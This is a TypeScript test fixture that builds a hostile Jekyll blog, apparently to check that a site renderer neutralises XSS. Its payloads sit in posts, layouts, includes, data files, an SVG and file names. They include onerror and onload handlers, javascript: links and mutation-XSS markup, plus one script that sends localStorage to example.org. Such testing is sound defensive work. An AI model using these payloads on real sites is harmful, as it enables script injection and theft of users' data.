import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { png } from './png.ts'
import type { Files } from './galley.ts'

const own = [
  '<script>canary()</script>',
  '<img src=x onerror=canary()>',
  '<svg onload=canary()><script>canary()</script></svg>',
  '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
  '[click](javascript:canary())',
  '<a href="javascript:canary()">x</a><form action="javascript:canary()"><button autofocus onfocus=canary()>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://example.org/">',
  '<base href="https://example.org/"><link rel="stylesheet" href="https://example.org/x.css">',
  '![x](https://example.org/pixel.png){: onload="canary()"}',
  '<style>@import "https://example.org/x.css"; body { background: url(https://example.org/x.png) }</style>',
  '<object data="https://example.org/x"></object><embed src="https://example.org/x">',
  '<details open ontoggle=canary()><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>',
  '"><img src=x onerror=canary()>',
  "' onerror='canary()' x='",
  '<script>fetch("https://example.org/?" + JSON.stringify(localStorage))</script>',
  '<link rel=prefetch href=https://example.org/p><video poster=https://example.org/v.png src=https://example.org/v.mp4 autoplay>',
]
const folder = process.env.GALLEY_PAYLOADS
const many =
  folder === undefined
    ? []
    : readFileSync(join(folder, 'xss.txt'), 'utf8')
        .split('\n')
        .filter((line) => line !== '')
/** No tag ends it: what stands behind it is never read. */
const endless = /<plaintext/i
const perGroup = 1110
const inTurn = [...many.filter((line) => !endless.test(line)), ...many.filter((line) => endless.test(line))]

/** Payloads that stand together in one post, its layout, its include, its data, its picture and names of files. */
const groups: readonly (readonly string[])[] = [
  own,
  ...Array.from({ length: Math.ceil(inTurn.length / perGroup) }, (_, at) =>
    inTurn.slice(at * perGroup, (at + 1) * perGroup),
  ),
]

/** Ends whatever a payload has opened, so that the next one gets its say. */
const closer =
  `'"--></textarea></title></style></script></noscript></noembed></noframes></xmp></iframe>` +
  '</option></select></template></object></svg></math></td></tr></table></form></a></p>'

const together = (lines: readonly string[]): string =>
  lines.map((line) => `<div>${line}${closer}</div>`).join('\n')
const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`
const isName = (line: string): boolean => !/[/\0]/.test(line) && Buffer.byteLength(line) < 200

const layoutOf = (lines: readonly string[]): string =>
  `<!doctype html><html><head><title>{{ page.title }}</title></head><body onload=canary()><h1>{{ page.title | escape }}</h1>${together(lines)}{{ content }}</body></html>`

/** What the page shows of data and of names; each ends what it may have opened. */
const shown = (at: number): string =>
  ['a', 'b', 'c']
    .map((each) => `{% for p in site.data.g${at}${each} %}<div>{{ p }}{{ p.it }}${closer}</div>{% endfor %}`)
    .join('\n') +
  `{% for f in site.static_files %}{% if f.path contains "/g${at}/" %}<a href="{{ f.path }}">{{ f.name }}${closer}</a>{% endif %}{% endfor %}`

/** Where payloads stand in a group. */
const places = ['post', 'drawing', 'layout', 'names', 'include', 'csv', 'yaml', 'json'] as const

/** Our own stand everywhere; of many, each stands in two places, its neighbor in the next two. */
function shared(lines: readonly string[], at: number): (place: (typeof places)[number]) => readonly string[] {
  const isIn = (index: number, place: number): boolean =>
    at === 0 || (index + Math.floor(place / 2)) % (places.length / 2) === 0
  return (name) => lines.filter((_, index) => isIn(index, places.indexOf(name)))
}

function groupFiles(lines: readonly string[], at: number): Files {
  const linesOf = shared(lines, at)
  return {
    [pathOf(at)]:
      `---\nlayout: g${at}\ntitle: ${JSON.stringify(`G${at} ${lines[0] ?? ''}`)}\ntags: ${JSON.stringify(lines.slice(0, 5))}\n---\n\n` +
      `Beginning ${at}.\n\n{% include g${at}.html p=page.title %}\n\n![drawing](/g${at}/drawing.svg)\n\n` +
      `{% for t in page.tags %}{{ t }}${closer}{% endfor %}\n\n` +
      linesOf('post')
        .map((line) => `${line}\n\n<p>${closer}</p>\n\n`)
        .join(''),
    [`_layouts/g${at}.html`]: layoutOf(linesOf('layout')),
    [`_includes/g${at}.html`]: `<p>Piece ${at}</p>{{ include.p }}${together(linesOf('include'))}${shown(at)}`,
    [`_data/g${at}a.yml`]: linesOf('yaml')
      .map((line) => `- ${JSON.stringify(line)}\n`)
      .join(''),
    [`_data/g${at}b.json`]: JSON.stringify(linesOf('json')),
    [`_data/g${at}c.csv`]: `it\n${linesOf('csv')
      .map((line) => `${quoted(line)}\n`)
      .join('')}`,
    [`g${at}/drawing.svg`]: `<svg xmlns="http://www.w3.org/2000/svg" onload="canary()">${together(linesOf('drawing'))}</svg>`,
    ...Object.fromEntries(
      linesOf('names')
        .filter(isName)
        .map((name) => [`g${at}/${name}.png`, png(1, 1)]),
    ),
  }
}

export const pathOf = (at: number): string => `_posts/2026-01-01-g${at}.md`

export const groupCount = groups.length

/** A blog in which every file tries to run something, to load something, or to lead somewhere. */
export const hostileSite: Files = {
  '_config.yml': `title: ${JSON.stringify(own[1])}\npaginate: 1\nexcerpt_separator: "<!--nowhere-->"\nplugins: [jekyll-paginate]\n`,
  'index.html': `---\n---\n<!doctype html><html><body>{% for post in paginator.posts %}<article><h2><a href="{{ post.url }}">{{ post.title | escape }}</a></h2>{{ post.title }}${closer}{{ post.excerpt }}</article>{% endfor %}</body></html>`,
  ...Object.fromEntries(groups.flatMap((lines, at) => Object.entries(groupFiles(lines, at)))),
  ...Object.fromEntries(
    own.filter(isName).map((line, at) => [`_posts/2025-01-0${(at % 9) + 1}-${line}.md`, `${line}\n`]),
  ),
}
